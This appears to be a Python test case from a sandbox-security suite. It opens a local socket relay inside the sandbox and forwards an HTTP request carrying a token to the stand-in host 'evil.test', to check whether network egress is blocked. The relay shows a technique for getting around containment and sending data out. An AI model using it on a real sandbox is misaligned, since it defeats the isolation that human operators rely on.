# SPDX-License-Identifier: Apache-2.0
"""A proxy of the program's own, inside."""
import socket
import threading

from bypass import get

TITLE = "a CONNECT relay inside the sandbox"
THREAT = "39"


def attack(c):
    with c.step("through the relay") as token:
        listener = socket.create_server(("127.0.0.1", 0))
        listener.settimeout(5)
        failed = []

        def relay():
            near, _ = listener.accept()
            try:
                with near, c.dial("evil.test", 80) as far:
                    far.sendall(near.recv(65536))
                    near.sendall(c.hear(far))
            except OSError as e:
                failed.append(e)

        t = threading.Thread(target=relay)
        t.start()
        with socket.create_connection(listener.getsockname(), 3) as s:
            s.sendall(get("evil.test", f"/{token}"))
            t.join()
        listener.close()
        if failed:
            raise failed[0]
